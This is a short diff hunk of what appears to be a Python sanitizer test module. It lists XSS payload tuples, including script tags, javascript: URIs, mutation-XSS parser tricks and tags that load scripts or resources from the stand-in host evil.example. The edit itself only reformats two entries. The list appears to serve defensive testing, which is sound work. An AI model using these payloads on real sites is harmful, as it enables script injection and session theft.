@@ -19,13 +19,14 @@ TAGS = ("img src=x", "svg", "body", "details open", "input", "video src=x", "aud
 SEPARATORS = (" ", "/", "\n", "\t", "\f", " a=b ")
 WHOLE = (
     f"<script>{HOOK}</script>", f"<SCRIPT >{HOOK}</SCRIPT\n>", f"<scr<script>ipt>{HOOK}</scr</script>ipt>",
-    f"<script/src=//evil.example/a.js></script>", f"<svg><script>{HOOK}</script></svg>",
+    "<script/src=//evil.example/a.js></script>", f"<svg><script>{HOOK}</script></svg>",
     f"<svg><a xlink:href='javascript:{HOOK}'><text>x</text></a></svg>", f"<iframe srcdoc='<script>{HOOK}</script>'>",
     "<iframe src=//evil.example></iframe>", "<object data=//evil.example></object>", "<embed src=//evil.example>",
     "<base href=//evil.example/>", f"<meta http-equiv=refresh content='0;url=javascript:{HOOK}'>",
     "<link rel=stylesheet href=//evil.example/a.css>", "<style>*{background:url(//evil.example)}</style>",
     "<p style='background:url(//evil.example)'>x</p>", f"<form action='javascript:{HOOK}'><button>x</button></form>",
-    f"<button formaction='javascript:{HOOK}'>x</button>", f"<noscript><p title='</noscript><img src=x onerror={HOOK}>'>",
+    f"<button formaction='javascript:{HOOK}'>x</button>",
+    f"<noscript><p title='</noscript><img src=x onerror={HOOK}>'>",
     f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={HOOK}>", f"<template><script>{HOOK}</script>",
     f"<select><iframe></select><img src=x onerror={HOOK}>", f"<isindex type=image src=1 onerror={HOOK}>",
 )  # fmt: skip
